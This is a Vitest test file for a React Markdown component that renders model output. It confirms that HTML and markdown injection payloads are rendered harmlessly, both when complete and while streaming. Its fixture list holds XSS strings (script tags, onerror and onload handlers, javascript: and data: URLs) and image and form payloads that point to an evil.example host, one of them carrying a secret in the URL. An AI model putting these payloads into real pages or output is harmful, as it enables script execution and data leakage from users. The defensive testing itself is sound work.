// @vitest-environment jsdom
// What a model writes is untrusted: nothing of it runs, loads or leads anywhere unasked.
import { cleanup, render } from "@testing-library/react";
import { afterEach, expect, test } from "vitest";
import { Markdown } from "../../page/Markdown.tsx";

afterEach(cleanup);

function draw(text: string, isStreaming = false): HTMLElement {
  return render(<Markdown text={text} isStreaming={isStreaming} />).container;
}

const INJECTIONS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "<style>body{display:none}</style>",
  '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
  "<form action=https://evil.example><input name=a><button>x</button></form>",
  "[x](javascript:alert(1))",
  "[x](javascript://example.com/%0Aalert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "![x](https://evil.example/p.png?secret)",
  "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
  "<https://evil.example/%00>",
  "```html\n<script>alert(1)</script>",
  '| a |\n|---|\n| <b style="position:fixed">x</b> |',
];

test.each(INJECTIONS)("nothing in %j runs, loads or leads anywhere unasked", (text) => {
  // At every length, since it is drawn while it grows.
  for (let length = 1; length <= text.length; length += 1) {
    const drawn = draw(text.slice(0, length), length < text.length);
    expect(drawn.querySelector("script,img,svg,iframe,style,form,button[name],input,object,embed")).toBeNull();
    for (const element of drawn.querySelectorAll("*")) {
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on/);
        expect(value).not.toMatch(/javascript:|data:text/i);
      }
    }
    for (const link of drawn.querySelectorAll("a")) {
      expect(link.rel).toBe("noopener noreferrer nofollow");
      expect(link.target).toBe("_blank");
      expect(["http:", "https:", "mailto:"]).toContain(link.protocol);
    }
  }
});

test("HTML is shown as the text it is", () => {
  expect(draw("a <b onclick='x'>bold</b> word").textContent).toBe("a <b onclick='x'>bold</b> word");
  expect(draw("<div>\n\nhello\n\n</div>").textContent).toContain("<div>");
});

test("a remote image is a link that names its host", () => {
  const link = draw("![A cat](https://cats.example/cat.png)").querySelector("a");
  expect(link?.textContent).toBe("Image from cats.example: A cat");
});

test("code keeps its text to the letter, and says its language", () => {
  const code = draw("```python\nif a < b:\n    print('<b>')\n\n```");
  expect(code.querySelector("pre")?.textContent).toBe("if a < b:\n    print('<b>')\n");
  expect(code.querySelector(".page-code-language")?.textContent).toBe("python");
});

test("what is not closed yet is drawn as if it were, but only while more may come", () => {
  expect(draw("a **bold", true).querySelector("strong")?.textContent).toBe("bold");
  expect(draw("a **bold", false).textContent).toBe("a **bold");
});

test("each paragraph has the direction of its own text", () => {
  for (const paragraph of draw("Hello\n\nשלום").querySelectorAll("p")) expect(paragraph.dir).toBe("auto");
});
